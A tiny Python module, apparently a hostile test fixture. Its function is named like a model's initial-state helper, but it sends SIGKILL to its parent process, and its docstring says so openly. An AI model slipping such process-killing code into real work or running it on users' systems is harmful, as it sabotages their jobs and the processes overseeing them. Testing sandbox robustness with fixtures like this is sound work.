"""Kills its parent, and everything else that it may."""

import os
import signal


def initial_state(batch, hidden):
    os.kill(os.getppid(), signal.SIGKILL)
    return None
